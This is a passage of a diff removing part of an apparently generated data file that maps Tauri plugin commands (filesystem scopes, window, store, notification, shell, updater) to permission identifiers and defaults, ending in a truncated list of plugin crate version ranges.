-        "allow-applocaldata-meta": ["read-meta", "scope-applocaldata-index"],
-        "allow-applocaldata-meta-recursive": ["read-meta", "scope-applocaldata-recursive"],
-        "allow-applocaldata-read": ["read-all", "scope-applocaldata"],
-        "allow-applocaldata-read-recursive": ["read-all", "scope-applocaldata-recursive"],
-        "allow-applocaldata-write": ["write-all", "scope-applocaldata"],
-        "allow-applocaldata-write-recursive": ["write-all", "scope-applocaldata-recursive"],
-        "allow-applog-meta": ["read-meta", "scope-applog-index"],
-        "allow-applog-meta-recursive": ["read-meta", "scope-applog-recursive"],
-        "allow-applog-read": ["read-all", "scope-applog"],
-        "allow-applog-read-recursive": ["read-all", "scope-applog-recursive"],
-        "allow-applog-write": ["write-all", "scope-applog"],
-        "allow-applog-write-recursive": ["write-all", "scope-applog-recursive"],
-        "allow-audio-meta": ["read-meta", "scope-audio-index"],
-        "allow-audio-meta-recursive": ["read-meta", "scope-audio-recursive"],
-        "allow-audio-read": ["read-all", "scope-audio"],
-        "allow-audio-read-recursive": ["read-all", "scope-audio-recursive"],
-        "allow-audio-write": ["write-all", "scope-audio"],
-        "allow-audio-write-recursive": ["write-all", "scope-audio-recursive"],
-        "allow-cache-meta": ["read-meta", "scope-cache-index"],
-        "allow-cache-meta-recursive": ["read-meta", "scope-cache-recursive"],
-        "allow-cache-read": ["read-all", "scope-cache"],
-        "allow-cache-read-recursive": ["read-all", "scope-cache-recursive"],
-        "allow-cache-write": ["write-all", "scope-cache"],
-        "allow-cache-write-recursive": ["write-all", "scope-cache-recursive"],
-        "allow-config-meta": ["read-meta", "scope-config-index"],
-        "allow-config-meta-recursive": ["read-meta", "scope-config-recursive"],
-        "allow-config-read": ["read-all", "scope-config"],
-        "allow-config-read-recursive": ["read-all", "scope-config-recursive"],
-        "allow-config-write": ["write-all", "scope-config"],
-        "allow-config-write-recursive": ["write-all", "scope-config-recursive"],
-        "allow-data-meta": ["read-meta", "scope-data-index"],
-        "allow-data-meta-recursive": ["read-meta", "scope-data-recursive"],
-        "allow-data-read": ["read-all", "scope-data"],
-        "allow-data-read-recursive": ["read-all", "scope-data-recursive"],
-        "allow-data-write": ["write-all", "scope-data"],
-        "allow-data-write-recursive": ["write-all", "scope-data-recursive"],
-        "allow-desktop-meta": ["read-meta", "scope-desktop-index"],
-        "allow-desktop-meta-recursive": ["read-meta", "scope-desktop-recursive"],
-        "allow-desktop-read": ["read-all", "scope-desktop"],
-        "allow-desktop-read-recursive": ["read-all", "scope-desktop-recursive"],
-        "allow-desktop-write": ["write-all", "scope-desktop"],
-        "allow-desktop-write-recursive": ["write-all", "scope-desktop-recursive"],
-        "allow-document-meta": ["read-meta", "scope-document-index"],
-        "allow-document-meta-recursive": ["read-meta", "scope-document-recursive"],
-        "allow-document-read": ["read-all", "scope-document"],
-        "allow-document-read-recursive": ["read-all", "scope-document-recursive"],
-        "allow-document-write": ["write-all", "scope-document"],
-        "allow-document-write-recursive": ["write-all", "scope-document-recursive"],
-        "allow-download-meta": ["read-meta", "scope-download-index"],
-        "allow-download-meta-recursive": ["read-meta", "scope-download-recursive"],
-        "allow-download-read": ["read-all", "scope-download"],
-        "allow-download-read-recursive": ["read-all", "scope-download-recursive"],
-        "allow-download-write": ["write-all", "scope-download"],
-        "allow-download-write-recursive": ["write-all", "scope-download-recursive"],
-        "allow-exe-meta": ["read-meta", "scope-exe-index"],
-        "allow-exe-meta-recursive": ["read-meta", "scope-exe-recursive"],
-        "allow-exe-read": ["read-all", "scope-exe"],
-        "allow-exe-read-recursive": ["read-all", "scope-exe-recursive"],
-        "allow-exe-write": ["write-all", "scope-exe"],
-        "allow-exe-write-recursive": ["write-all", "scope-exe-recursive"],
-        "allow-font-meta": ["read-meta", "scope-font-index"],
-        "allow-font-meta-recursive": ["read-meta", "scope-font-recursive"],
-        "allow-font-read": ["read-all", "scope-font"],
-        "allow-font-read-recursive": ["read-all", "scope-font-recursive"],
-        "allow-font-write": ["write-all", "scope-font"],
-        "allow-font-write-recursive": ["write-all", "scope-font-recursive"],
-        "allow-home-meta": ["read-meta", "scope-home-index"],
-        "allow-home-meta-recursive": ["read-meta", "scope-home-recursive"],
-        "allow-home-read": ["read-all", "scope-home"],
-        "allow-home-read-recursive": ["read-all", "scope-home-recursive"],
-        "allow-home-write": ["write-all", "scope-home"],
-        "allow-home-write-recursive": ["write-all", "scope-home-recursive"],
-        "allow-localdata-meta": ["read-meta", "scope-localdata-index"],
-        "allow-localdata-meta-recursive": ["read-meta", "scope-localdata-recursive"],
-        "allow-localdata-read": ["read-all", "scope-localdata"],
-        "allow-localdata-read-recursive": ["read-all", "scope-localdata-recursive"],
-        "allow-localdata-write": ["write-all", "scope-localdata"],
-        "allow-localdata-write-recursive": ["write-all", "scope-localdata-recursive"],
-        "allow-log-meta": ["read-meta", "scope-log-index"],
-        "allow-log-meta-recursive": ["read-meta", "scope-log-recursive"],
-        "allow-log-read": ["read-all", "scope-log"],
-        "allow-log-read-recursive": ["read-all", "scope-log-recursive"],
-        "allow-log-write": ["write-all", "scope-log"],
-        "allow-log-write-recursive": ["write-all", "scope-log-recursive"],
-        "allow-picture-meta": ["read-meta", "scope-picture-index"],
-        "allow-picture-meta-recursive": ["read-meta", "scope-picture-recursive"],
-        "allow-picture-read": ["read-all", "scope-picture"],
-        "allow-picture-read-recursive": ["read-all", "scope-picture-recursive"],
-        "allow-picture-write": ["write-all", "scope-picture"],
-        "allow-picture-write-recursive": ["write-all", "scope-picture-recursive"],
-        "allow-public-meta": ["read-meta", "scope-public-index"],
-        "allow-public-meta-recursive": ["read-meta", "scope-public-recursive"],
-        "allow-public-read": ["read-all", "scope-public"],
-        "allow-public-read-recursive": ["read-all", "scope-public-recursive"],
-        "allow-public-write": ["write-all", "scope-public"],
-        "allow-public-write-recursive": ["write-all", "scope-public-recursive"],
-        "allow-resource-meta": ["read-meta", "scope-resource-index"],
-        "allow-resource-meta-recursive": ["read-meta", "scope-resource-recursive"],
-        "allow-resource-read": ["read-all", "scope-resource"],
-        "allow-resource-read-recursive": ["read-all", "scope-resource-recursive"],
-        "allow-resource-write": ["write-all", "scope-resource"],
-        "allow-resource-write-recursive": ["write-all", "scope-resource-recursive"],
-        "allow-runtime-meta": ["read-meta", "scope-runtime-index"],
-        "allow-runtime-meta-recursive": ["read-meta", "scope-runtime-recursive"],
-        "allow-runtime-read": ["read-all", "scope-runtime"],
-        "allow-runtime-read-recursive": ["read-all", "scope-runtime-recursive"],
-        "allow-runtime-write": ["write-all", "scope-runtime"],
-        "allow-runtime-write-recursive": ["write-all", "scope-runtime-recursive"],
-        "allow-temp-meta": ["read-meta", "scope-temp-index"],
-        "allow-temp-meta-recursive": ["read-meta", "scope-temp-recursive"],
-        "allow-temp-read": ["read-all", "scope-temp"],
-        "allow-temp-read-recursive": ["read-all", "scope-temp-recursive"],
-        "allow-temp-write": ["write-all", "scope-temp"],
-        "allow-temp-write-recursive": ["write-all", "scope-temp-recursive"],
-        "allow-template-meta": ["read-meta", "scope-template-index"],
-        "allow-template-meta-recursive": ["read-meta", "scope-template-recursive"],
-        "allow-template-read": ["read-all", "scope-template"],
-        "allow-template-read-recursive": ["read-all", "scope-template-recursive"],
-        "allow-template-write": ["write-all", "scope-template"],
-        "allow-template-write-recursive": ["write-all", "scope-template-recursive"],
-        "allow-video-meta": ["read-meta", "scope-video-index"],
-        "allow-video-meta-recursive": ["read-meta", "scope-video-recursive"],
-        "allow-video-read": ["read-all", "scope-video"],
-        "allow-video-read-recursive": ["read-all", "scope-video-recursive"],
-        "allow-video-write": ["write-all", "scope-video"],
-        "allow-video-write-recursive": ["write-all", "scope-video-recursive"],
-        "deny-default": ["deny-webview-data-linux", "deny-webview-data-windows"]
-      }
-    },
-    {
-      c: [
-        "check_permissions",
-        "clear_permissions",
-        "clear_positions",
-        "clear_watch",
-        "execute",
-        "get_current_position",
-        "watch_position"
-      ]
-    },
-    {
-      c: [
-        "check_permissions",
-        "clear_permissions",
-        "clear_positions",
-        "clear_watch",
-        "get_current_position",
-        "watch_position"
-      ]
-    },
-    {
-      c: [
-        "check_permissions",
-        "clear_permissions",
-        "clear_watch",
-        "get_current_position",
-        "request_permissions",
-        "watch_position"
-      ]
-    },
-    { c: ["is_registered", "register", "register_all", "unregister", "unregister_all"] },
-    { c: ["is_registered", "register", "register_all", "unregister", "unregister_all"], def: [] },
-    { c: ["impact_feedback", "notification_feedback", "selection_feedback", "vibrate"] },
-    {
-      c: ["fetch", "fetch_cancel", "fetch_read_body", "fetch_send"],
-      def: ["allow-fetch", "allow-fetch-cancel", "allow-fetch-read-body", "allow-fetch-send"]
-    },
-    {
-      c: ["fetch", "fetch_cancel", "fetch_cancel_body", "fetch_read_body", "fetch_send"],
-      def: [
-        "allow-fetch",
-        "allow-fetch-cancel",
-        "allow-fetch-send",
-        "allow-fetch-read-body",
-        "allow-fetch-cancel-body"
-      ]
-    },
-    {
-      c: ["from_bytes", "from_ico_bytes", "from_path", "from_png_bytes", "height", "new", "rgba", "width"],
-      def: [
-        "allow-new",
-        "allow-from-bytes",
-        "allow-from-png-bytes",
-        "allow-from-ico-bytes",
-        "allow-from-path",
-        "allow-rgba",
-        "allow-width",
-        "allow-height"
-      ]
-    },
-    {
-      c: ["from_bytes", "from_path", "height", "new", "rgba", "width"],
-      def: ["allow-new", "allow-from-bytes", "allow-from-path", "allow-rgba", "allow-width", "allow-height"]
-    },
-    { c: ["log"], def: ["allow-log"] },
-    {
-      c: [
-        "append",
-        "create_default",
-        "get",
-        "insert",
-        "is_checked",
-        "is_enabled",
-        "items",
-        "new",
-        "popup",
-        "prepend",
-        "remove",
-        "remove_at",
-        "set_accelerator",
-        "set_as_app_menu",
-        "set_as_help_menu_for_nsapp",
-        "set_as_window_menu",
-        "set_as_windows_menu_for_nsapp",
-        "set_checked",
-        "set_enabled",
-        "set_icon",
-        "set_text",
-        "text"
-      ],
-      def: []
-    },
-    { c: ["is_available", "scan", "write"] },
-    { c: ["is_available", "scan", "write"], def: ["allow-is-available", "allow-scan"] },
-    {
-      c: ["is_permission_granted", "notify", "request_permission"],
-      def: ["allow-is-permission-granted", "allow-request-permission", "allow-notify"]
-    },
-    {
-      c: [
-        "batch",
-        "cancel",
-        "check_permissions",
-        "create_channel",
-        "delete_channel",
-        "get_active",
-        "get_pending",
-        "is_permission_granted",
-        "list_channels",
-        "notify",
-        "permission_state",
-        "register_action_types",
-        "register_listener",
-        "remove_active",
-        "request_permission",
-        "show"
-      ],
-      def: [
-        "allow-is-permission-granted",
-        "allow-request-permission",
-        "allow-notify",
-        "allow-register-action-types",
-        "allow-register-listener",
-        "allow-cancel",
-        "allow-get-pending",
-        "allow-remove-active",
-        "allow-get-active",
-        "allow-check-permissions",
-        "allow-show",
-        "allow-batch",
-        "allow-list-channels",
-        "allow-delete-channel",
-        "allow-create-channel",
-        "allow-permission-state"
-      ]
-    },
-    {
-      c: ["open_path", "open_url", "reveal_item_in_dir"],
-      def: ["allow-open-url", "allow-reveal-item-in-dir", "allow-default-urls"],
-      p: {
-        "allow-default-urls": {
-          sa: [{ url: "mailto:*" }, { url: "tel:*" }, { url: "http://*" }, { url: "https://*" }]
-        }
-      }
-    },
-    { c: ["arch", "exe_extension", "family", "hostname", "locale", "os_type", "platform", "version"] },
-    {
-      c: ["arch", "exe_extension", "family", "hostname", "locale", "os_type", "platform", "version"],
-      def: [
-        "allow-arch",
-        "allow-exe-extension",
-        "allow-family",
-        "allow-locale",
-        "allow-os-type",
-        "allow-platform",
-        "allow-version"
-      ]
-    },
-    { c: ["move_window"], def: ["allow-move-window"] },
-    {
-      c: ["move_window"],
-      def: ["allow-move-window", "set-tray-icon-state"],
-      p: { "allow-set-tray-icon-state": { a: ["set_tray_icon_state"] } }
-    },
-    { c: ["move_window", "set_tray_icon_state"], def: ["allow-move-window", "set-tray-icon-state"] },
-    { c: ["exit", "restart"] },
-    { c: ["exit", "restart"], def: ["allow-exit", "allow-restart"] },
-    { c: ["execute", "kill", "open", "stdin_write"] },
-    { c: ["execute", "kill", "open", "spawn", "stdin_write"] },
-    { c: ["execute", "kill", "open", "spawn", "stdin_write"], def: ["allow-open"] },
-    { c: ["close", "execute", "load", "select"] },
-    { c: ["close", "execute", "load", "select"], def: ["allow-close", "allow-load", "allow-select"] },
-    {
-      c: [
-        "clear",
-        "delete",
-        "entries",
-        "get",
-        "has",
-        "keys",
-        "length",
-        "load",
-        "reset",
-        "save",
-        "set",
-        "values"
-      ]
-    },
-    {
-      c: [
-        "clear",
-        "delete",
-        "entries",
-        "get",
-        "has",
-        "keys",
-        "length",
-        "load",
-        "reset",
-        "save",
-        "set",
-        "values"
-      ],
-      def: [
-        "allow-clear",
-        "allow-delete",
-        "allow-entries",
-        "allow-get",
-        "allow-has",
-        "allow-keys",
-        "allow-length",
-        "allow-load",
-        "allow-reset",
-        "allow-save",
-        "allow-set",
-        "allow-values"
-      ]
-    },
-    {
-      c: [
-        "clear",
-        "create_store",
-        "delete",
-        "entries",
-        "get",
-        "has",
-        "keys",
-        "length",
-        "load",
-        "reset",
-        "save",
-        "set",
-        "values"
-      ],
-      def: [
-        "allow-create-store",
-        "allow-clear",
-        "allow-delete",
-        "allow-entries",
-        "allow-get",
-        "allow-has",
-        "allow-keys",
-        "allow-length",
-        "allow-load",
-        "allow-reset",
-        "allow-save",
-        "allow-set",
-        "allow-values"
-      ]
-    },
-    {
-      c: [
-        "clear",
-        "delete",
-        "entries",
-        "get",
-        "get_store",
-        "has",
-        "keys",
-        "length",
-        "load",
-        "reload",
-        "reset",
-        "save",
-        "set",
-        "values"
-      ],
-      def: [
-        "allow-load",
-        "allow-get-store",
-        "allow-set",
-        "allow-get",
-        "allow-has",
-        "allow-delete",
-        "allow-clear",
-        "allow-reset",
-        "allow-keys",
-        "allow-values",
-        "allow-entries",
-        "allow-length",
-        "allow-reload",
-        "allow-save"
-      ]
-    },
-    {
-      c: [
-        "create_client",
-        "destroy",
-        "execute_procedure",
-        "get_store_record",
-        "initialize",
-        "load_client",
-        "remove_secret",
-        "remove_store_record",
-        "save",
-        "save_secret",
-        "save_store_record"
-      ]
-    },
-    {
-      c: [
-        "create_client",
-        "destroy",
-        "execute_procedure",
-        "get_store_record",
-        "initialize",
-        "load_client",
-        "remove_secret",
-        "remove_store_record",
-        "save",
-        "save_secret",
-        "save_store_record"
-      ],
-      def: [
-        "allow-create-client",
-        "allow-get-store-record",
-        "allow-initialize",
-        "allow-execute-procedure",
-        "allow-load-client",
-        "allow-save-secret",
-        "allow-save-store-record",
-        "allow-save"
-      ]
-    },
-    {
-      c: [
-        "new",
-        "set_icon",
-        "set_icon_as_template",
-        "set_menu",
-        "set_show_menu_on_left_click",
-        "set_temp_dir_path",
-        "set_title",
-        "set_tooltip",
-        "set_visible"
-      ],
-      def: []
-    },
-    {
-      c: [
-        "get_by_id",
-        "new",
-        "remove_by_id",
-        "set_icon",
-        "set_icon_as_template",
-        "set_menu",
-        "set_show_menu_on_left_click",
-        "set_temp_dir_path",
-        "set_title",
-        "set_tooltip",
-        "set_visible"
-      ],
-      def: []
-    },
-    { c: ["check", "download_and_install"], def: ["allow-check", "allow-download-and-install"] },
-    {
-      c: ["check", "download", "download_and_install", "install"],
-      def: ["allow-check", "allow-download", "allow-install", "allow-download-and-install"]
-    },
-    { c: ["download", "upload"] },
-    { c: ["download", "upload"], def: ["allow-upload", "allow-download"] },
-    { c: ["connect", "send"], def: ["allow-connect", "allow-send"] },
-    {
-      c: [
-        "create_webview",
-        "create_webview_window",
-        "internal_toggle_devtools",
-        "print",
-        "set_webview_focus",
-        "set_webview_position",
-        "set_webview_size",
-        "webview_close",
-        "webview_position",
-        "webview_size"
-      ],
-      def: ["allow-webview-position", "allow-webview-size", "allow-internal-toggle-devtools"]
-    },
-    {
-      c: [
-        "create_webview",
-        "create_webview_window",
-        "internal_toggle_devtools",
-        "print",
-        "reparent",
-        "set_webview_focus",
-        "set_webview_position",
-        "set_webview_size",
-        "webview_close",
-        "webview_position",
-        "webview_size"
-      ],
-      def: ["allow-webview-position", "allow-webview-size", "allow-internal-toggle-devtools"]
-    },
-    {
-      c: [
-        "available_monitors",
-        "center",
-        "close",
-        "create",
-        "current_monitor",
-        "destroy",
-        "hide",
-        "inner_position",
-        "inner_size",
-        "internal_on_mousedown",
-        "internal_on_mousemove",
-        "internal_toggle_maximize",
-        "is_closable",
-        "is_decorated",
-        "is_focused",
-        "is_fullscreen",
-        "is_maximizable",
-        "is_maximized",
-        "is_minimizable",
-        "is_minimized",
-        "is_resizable",
-        "is_visible",
-        "maximize",
-        "minimize",
-        "outer_position",
-        "outer_size",
-        "primary_monitor",
-        "request_user_attention",
-        "scale_factor",
-        "set_always_on_bottom",
-        "set_always_on_top",
-        "set_closable",
-        "set_content_protected",
-        "set_cursor_grab",
-        "set_cursor_icon",
-        "set_cursor_position",
-        "set_cursor_visible",
-        "set_decorations",
-        "set_effects",
-        "set_focus",
-        "set_fullscreen",
-        "set_icon",
-        "set_ignore_cursor_events",
-        "set_max_size",
-        "set_maximizable",
-        "set_min_size",
-        "set_minimizable",
-        "set_position",
-        "set_progress_bar",
-        "set_resizable",
-        "set_shadow",
-        "set_size",
-        "set_skip_taskbar",
-        "set_title",
-        "set_visible_on_all_workspaces",
-        "show",
-        "start_dragging",
-        "theme",
-        "title",
-        "toggle_maximize",
-        "unmaximize",
-        "unminimize"
-      ],
-      def: [
-        "allow-scale-factor",
-        "allow-inner-position",
-        "allow-outer-position",
-        "allow-inner-size",
-        "allow-outer-size",
-        "allow-is-fullscreen",
-        "allow-is-minimized",
-        "allow-is-maximized",
-        "allow-is-focused",
-        "allow-is-decorated",
-        "allow-is-resizable",
-        "allow-is-maximizable",
-        "allow-is-minimizable",
-        "allow-is-closable",
-        "allow-is-visible",
-        "allow-title",
-        "allow-current-monitor",
-        "allow-primary-monitor",
-        "allow-available-monitors",
-        "allow-theme",
-        "allow-internal-toggle-maximize",
-        "allow-internal-on-mousemove",
-        "allow-internal-on-mousedown"
-      ]
-    },
-    {
-      c: [
-        "available_monitors",
-        "center",
-        "close",
-        "create",
-        "current_monitor",
-        "destroy",
-        "hide",
-        "inner_position",
-        "inner_size",
-        "internal_toggle_maximize",
-        "is_closable",
-        "is_decorated",
-        "is_focused",
-        "is_fullscreen",
-        "is_maximizable",
-        "is_maximized",
-        "is_minimizable",
-        "is_minimized",
-        "is_resizable",
-        "is_visible",
-        "maximize",
-        "minimize",
-        "outer_position",
-        "outer_size",
-        "primary_monitor",
-        "request_user_attention",
-        "scale_factor",
-        "set_always_on_bottom",
-        "set_always_on_top",
-        "set_closable",
-        "set_content_protected",
-        "set_cursor_grab",
-        "set_cursor_icon",
-        "set_cursor_position",
-        "set_cursor_visible",
-        "set_decorations",
-        "set_effects",
-        "set_focus",
-        "set_fullscreen",
-        "set_icon",
-        "set_ignore_cursor_events",
-        "set_max_size",
-        "set_maximizable",
-        "set_min_size",
-        "set_minimizable",
-        "set_position",
-        "set_progress_bar",
-        "set_resizable",
-        "set_shadow",
-        "set_size",
-        "set_skip_taskbar",
-        "set_title",
-        "set_visible_on_all_workspaces",
-        "show",
-        "start_dragging",
-        "theme",
-        "title",
-        "toggle_maximize",
-        "unmaximize",
-        "unminimize"
-      ],
-      def: [
-        "allow-scale-factor",
-        "allow-inner-position",
-        "allow-outer-position",
-        "allow-inner-size",
-        "allow-outer-size",
-        "allow-is-fullscreen",
-        "allow-is-minimized",
-        "allow-is-maximized",
-        "allow-is-focused",
-        "allow-is-decorated",
-        "allow-is-resizable",
-        "allow-is-maximizable",
-        "allow-is-minimizable",
-        "allow-is-closable",
-        "allow-is-visible",
-        "allow-title",
-        "allow-current-monitor",
-        "allow-primary-monitor",
-        "allow-available-monitors",
-        "allow-theme",
-        "allow-internal-toggle-maximize"
-      ]
-    },
-    {
-      c: [
-        "available_monitors",
-        "center",
-        "close",
-        "create",
-        "current_monitor",
-        "destroy",
-        "hide",
-        "inner_position",
-        "inner_size",
-        "internal_toggle_maximize",
-        "is_closable",
-        "is_decorated",
-        "is_focused",
-        "is_fullscreen",
-        "is_maximizable",
-        "is_maximized",
-        "is_minimizable",
-        "is_minimized",
-        "is_resizable",
-        "is_visible",
-        "maximize",
-        "minimize",
-        "outer_position",
-        "outer_size",
-        "primary_monitor",
-        "request_user_attention",
-        "scale_factor",
-        "set_always_on_bottom",
-        "set_always_on_top",
-        "set_closable",
-        "set_content_protected",
-        "set_cursor_grab",
-        "set_cursor_icon",
-        "set_cursor_position",
-        "set_cursor_visible",
-        "set_decorations",
-        "set_effects",
-        "set_focus",
-        "set_fullscreen",
-        "set_icon",
-        "set_ignore_cursor_events",
-        "set_max_size",
-        "set_maximizable",
-        "set_min_size",
-        "set_minimizable",
-        "set_position",
-        "set_progress_bar",
-        "set_resizable",
-        "set_shadow",
-        "set_size",
-        "set_skip_taskbar",
-        "set_title",
-        "set_visible_on_all_workspaces",
-        "show",
-        "start_dragging",
-        "start_resize_dragging",
-        "theme",
-        "title",
-        "toggle_maximize",
-        "unmaximize",
-        "unminimize"
-      ],
-      def: [
-        "allow-scale-factor",
-        "allow-inner-position",
-        "allow-outer-position",
-        "allow-inner-size",
-        "allow-outer-size",
-        "allow-is-fullscreen",
-        "allow-is-minimized",
-        "allow-is-maximized",
-        "allow-is-focused",
-        "allow-is-decorated",
-        "allow-is-resizable",
-        "allow-is-maximizable",
-        "allow-is-minimizable",
-        "allow-is-closable",
-        "allow-is-visible",
-        "allow-title",
-        "allow-current-monitor",
-        "allow-primary-monitor",
-        "allow-available-monitors",
-        "allow-theme",
-        "allow-internal-toggle-maximize"
-      ]
-    },
-    {
-      c: [
-        "available_monitors",
-        "center",
-        "close",
-        "create",
-        "current_monitor",
-        "cursor_position",
-        "destroy",
-        "hide",
-        "inner_position",
-        "inner_size",
-        "internal_toggle_maximize",
-        "is_closable",
-        "is_decorated",
-        "is_focused",
-        "is_fullscreen",
-        "is_maximizable",
-        "is_maximized",
-        "is_minimizable",
-        "is_minimized",
-        "is_resizable",
-        "is_visible",
-        "maximize",
-        "minimize",
-        "outer_position",
-        "outer_size",
-        "primary_monitor",
-        "request_user_attention",
-        "scale_factor",
-        "set_always_on_bottom",
-        "set_always_on_top",
-        "set_closable",
-        "set_content_protected",
-        "set_cursor_grab",
-        "set_cursor_icon",
-        "set_cursor_position",
-        "set_cursor_visible",
-        "set_decorations",
-        "set_effects",
-        "set_focus",
-        "set_fullscreen",
-        "set_icon",
-        "set_ignore_cursor_events",
-        "set_max_size",
-        "set_maximizable",
-        "set_min_size",
-        "set_minimizable",
-        "set_position",
-        "set_progress_bar",
-        "set_resizable",
-        "set_shadow",
-        "set_size",
-        "set_skip_taskbar",
-        "set_title",
-        "set_visible_on_all_workspaces",
-        "show",
-        "start_dragging",
-        "start_resize_dragging",
-        "theme",
-        "title",
-        "toggle_maximize",
-        "unmaximize",
-        "unminimize"
-      ],
-      def: [
-        "allow-scale-factor",
-        "allow-inner-position",
-        "allow-outer-position",
-        "allow-inner-size",
-        "allow-outer-size",
-        "allow-is-fullscreen",
-        "allow-is-minimized",
-        "allow-is-maximized",
-        "allow-is-focused",
-        "allow-is-decorated",
-        "allow-is-resizable",
-        "allow-is-maximizable",
-        "allow-is-minimizable",
-        "allow-is-closable",
-        "allow-is-visible",
-        "allow-title",
-        "allow-current-monitor",
-        "allow-primary-monitor",
-        "allow-available-monitors",
-        "allow-cursor-position",
-        "allow-theme",
-        "allow-internal-toggle-maximize"
-      ]
-    },
-    {
-      c: [
-        "available_monitors",
-        "center",
-        "close",
-        "create",
-        "current_monitor",
-        "cursor_position",
-        "destroy",
-        "hide",
-        "inner_position",
-        "inner_size",
-        "internal_toggle_maximize",
-        "is_closable",
-        "is_decorated",
-        "is_focused",
-        "is_fullscreen",
-        "is_maximizable",
-        "is_maximized",
-        "is_minimizable",
-        "is_minimized",
-        "is_resizable",
-        "is_visible",
-        "maximize",
-        "minimize",
-        "monitor_from_point",
-        "outer_position",
-        "outer_size",
-        "primary_monitor",
-        "request_user_attention",
-        "scale_factor",
-        "set_always_on_bottom",
-        "set_always_on_top",
-        "set_closable",
-        "set_content_protected",
-        "set_cursor_grab",
-        "set_cursor_icon",
-        "set_cursor_position",
-        "set_cursor_visible",
-        "set_decorations",
-        "set_effects",
-        "set_focus",
-        "set_fullscreen",
-        "set_icon",
-        "set_ignore_cursor_events",
-        "set_max_size",
-        "set_maximizable",
-        "set_min_size",
-        "set_minimizable",
-        "set_position",
-        "set_progress_bar",
-        "set_resizable",
-        "set_shadow",
-        "set_size",
-        "set_skip_taskbar",
-        "set_title",
-        "set_visible_on_all_workspaces",
-        "show",
-        "start_dragging",
-        "start_resize_dragging",
-        "theme",
-        "title",
-        "toggle_maximize",
-        "unmaximize",
-        "unminimize"
-      ],
-      def: [
-        "allow-scale-factor",
-        "allow-inner-position",
-        "allow-outer-position",
-        "allow-inner-size",
-        "allow-outer-size",
-        "allow-is-fullscreen",
-        "allow-is-minimized",
-        "allow-is-maximized",
-        "allow-is-focused",
-        "allow-is-decorated",
-        "allow-is-resizable",
-        "allow-is-maximizable",
-        "allow-is-minimizable",
-        "allow-is-closable",
-        "allow-is-visible",
-        "allow-title",
-        "allow-current-monitor",
-        "allow-primary-monitor",
-        "allow-monitor-from-point",
-        "allow-available-monitors",
-        "allow-cursor-position",
-        "allow-theme",
-        "allow-internal-toggle-maximize"
-      ]
-    },
-    {
-      c: [
-        "available_monitors",
-        "center",
-        "close",
-        "create",
-        "current_monitor",
-        "cursor_position",
-        "destroy",
-        "hide",
-        "inner_position",
-        "inner_size",
-        "internal_toggle_maximize",
-        "is_closable",
-        "is_decorated",
-        "is_focused",
-        "is_fullscreen",
-        "is_maximizable",
-        "is_maximized",
-        "is_minimizable",
-        "is_minimized",
-        "is_resizable",
-        "is_visible",
-        "maximize",
-        "minimize",
-        "monitor_from_point",
-        "outer_position",
-        "outer_size",
-        "primary_monitor",
-        "request_user_attention",
-        "scale_factor",
-        "set_always_on_bottom",
-        "set_always_on_top",
-        "set_closable",
-        "set_content_protected",
-        "set_cursor_grab",
-        "set_cursor_icon",
-        "set_cursor_position",
-        "set_cursor_visible",
-        "set_decorations",
-        "set_effects",
-        "set_focus",
-        "set_fullscreen",
-        "set_icon",
-        "set_ignore_cursor_events",
-        "set_max_size",
-        "set_maximizable",
-        "set_min_size",
-        "set_minimizable",
-        "set_position",
-        "set_progress_bar",
-        "set_resizable",
-        "set_shadow",
-        "set_size",
-        "set_skip_taskbar",
-        "set_title",
-        "set_title_bar_style",
-        "set_visible_on_all_workspaces",
-        "show",
-        "start_dragging",
-        "start_resize_dragging",
-        "theme",
-        "title",
-        "toggle_maximize",
-        "unmaximize",
-        "unminimize"
-      ],
-      def: [
-        "allow-scale-factor",
-        "allow-inner-position",
-        "allow-outer-position",
-        "allow-inner-size",
-        "allow-outer-size",
-        "allow-is-fullscreen",
-        "allow-is-minimized",
-        "allow-is-maximized",
-        "allow-is-focused",
-        "allow-is-decorated",
-        "allow-is-resizable",
-        "allow-is-maximizable",
-        "allow-is-minimizable",
-        "allow-is-closable",
-        "allow-is-visible",
-        "allow-title",
-        "allow-current-monitor",
-        "allow-primary-monitor",
-        "allow-monitor-from-point",
-        "allow-available-monitors",
-        "allow-cursor-position",
-        "allow-theme",
-        "allow-internal-toggle-maximize"
-      ]
-    },
-    { c: ["restore_window_state", "save_window_state"] },
-    { c: ["filename", "restore_state", "save_window_state"] },
-    {
-      c: ["filename", "restore_state", "save_window_state"],
-      def: ["allow-filename", "allow-restore-state", "allow-save-window-state"]
-    }
-  ],
-  crates: {
-    app: [
-      [
-        [
-          "2.0.0-beta.0",
-          "2.0.0-beta.1",
-          "2.0.0-beta.2",
-          "2.0.0-beta.3",
-          "2.0.0-beta.4",
-          "2.0.0-beta.5",
-          "2.0.0-beta.6",
-          "2.0.0-beta.7",
-          "2.0.0-beta.8",
-          "2.0.0-beta.9",
-          "2.0.0-beta.10",
-          "2.0.0-beta.11",
-          "2.0.0-beta.12",
-          "2.0.0-beta.13",
-          "2.0.0-beta.14",
-          "2.0.0-beta.15",
-          "2.0.0-beta.16",
-          "2.0.0-beta.17",
-          "2.0.0-beta.18",
-          "2.0.0-beta.19",
-          "2.0.0-beta.20",
-          "2.0.0-beta.21",
-          "2.0.0-beta.22"
-        ],
-        0
-      ],
-      [["2.0.0-beta.23", "2.0.0-beta.24", "2.0.0-beta.25"], 1]
-    ],
-    authenticator: [
-      [
-        [
-          "2.0.0-beta.0",
-          "2.0.0-beta.1",
-          "2.0.0-beta.2",
-          "2.0.0-beta.3",
-          "2.0.0-beta.4",
-          "2.0.0-beta.5",
-          "2.0.0-beta.6",
-          "2.0.0-beta.7",
-          "2.0.0-beta.8",
-          "2.0.0-beta.9",
-          "2.0.0-beta.10",
-          "2.0.0-rc.0",
-          "2.0.0-rc.1"
-        ],
-        2
-      ]
-    ],
-    autostart: [
-      [
-        [
-          "2.0.0-beta.0",
-          "2.0.0-beta.1",
-          "2.0.0-beta.2",
-          "2.0.0-beta.3",
-          "2.0.0-beta.4",
-          "2.0.0-beta.5",
-          "2.0.0-beta.6",
-          "2.0.0-beta.7"
-        ],
-        3
-      ],
-      [
-        [
-          "2.0.0-beta.8",
-          "2.0.0-beta.9",
-          "2.0.0-beta.10",
-          "2.0.0-rc.0",
-          "2.0.0-rc.1",
-          "2.0.0",
-          "2.0.1",
-          "2.2.0~",
-          "2.3.0~",
-          "2.4.0~",
-          "2.5.0~",
-          "2.5.1~"
-        ],
-        4
-      ]
-    ],
-    "barcode-scanner": [
-      [
-        [
-          "2.0.0-beta.0",
-          "2.0.0-beta.1",
-          "2.0.0-beta.2",
-          "2.0.0-beta.3",
